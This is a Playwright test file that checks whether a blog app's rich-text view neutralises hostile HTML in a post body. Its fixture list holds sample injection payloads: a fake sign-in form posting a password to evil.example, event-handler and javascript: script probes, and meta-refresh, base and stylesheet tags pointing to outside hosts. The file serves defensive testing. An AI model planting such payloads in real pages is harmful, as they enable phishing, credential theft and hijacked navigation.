import { expect, test } from '@playwright/test';
import { accounts, signInThroughForm } from './support';

/** What a hostile author could put into a blog post's body (hosts under `.example` stand for outside ones). */
const PLANTED = [
  '<p>Planted text</p>',
  '<style>body { display: none !important }</style>',
  '<div style="position: fixed; inset: 0; z-index: 99999; background: white">Your session expired</div>',
  '<form action="https://evil.example/steal" method="post"><input type="password" name="p"><button>Sign in</button></form>',
  '<img src="https://tracker.example/pixel.gif" alt="Tracker">',
  '<img src="x" onerror="window.__pwned = 1">',
  '<svg onload="window.__pwned = 2"></svg>',
  '<a href="javascript:window.__pwned = 3">Planted link</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<img src="/x.png" srcset="https://tracker.example/2x.png 2x">',
].join('');

test.describe('rich text is inert in the browser', () => {
  test('a blog post with hostile HTML runs nothing, covers nothing and calls no other host until asked', async ({
    page,
  }) => {
    const outside: string[] = [];
    // On the context, not the page: the mock's service worker forwards the page's requests itself.
    await page.context().route(/\.example\//, (route) => {
      outside.push(route.request().url());
      return route.abort();
    });
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    // Signed in by form: from a stored sign-in this test failed beside the full suite (cause not found).
    await signInThroughForm(page, accounts.super);
    await page.evaluate((html) => {
      (window as unknown as { __mock: { setCanary(text: string): void } }).__mock.setCanary(html);
    }, PLANTED);

    await page.goto('/blog-posts/1/show');
    const main = page.locator('main');
    await expect(main.locator('p', { hasText: /^Planted text$/ })).toBeVisible();
    await expect(main.locator('a', { hasText: /^Planted link$/ })).not.toHaveAttribute('href');
    expect(
      await main.locator('style, form, input, svg[onload], meta, base, link[rel=stylesheet]').count(),
    ).toBe(0);
    const body = main.locator('p', { hasText: /^Planted text$/ }).locator('..');
    expect(await body.locator('[style*="position"], [class], [id]').count()).toBe(0);
    expect(await page.evaluate(() => getComputedStyle(document.body).display)).not.toBe('none');
    await page.waitForTimeout(500);
    expect(await page.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(outside).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(new URL(page.url()).pathname).toBe('/blog-posts/1/show');

    // Asked for, remote images load: the check above would have seen them.
    await main.getByRole('button', { name: 'Show images' }).first().click();
    await expect.poll(() => outside).toContain('https://tracker.example/pixel.gif');
    expect(await page.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();

    outside.length = 0;
    await page.goto('/blog-posts/1');
    await expect(page.locator('.ProseMirror p', { hasText: /^Planted text$/ })).toBeVisible();
    await page.waitForTimeout(500);
    expect(await page.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(outside).toEqual([]);
    expect(dialogs).toEqual([]);
  });
});
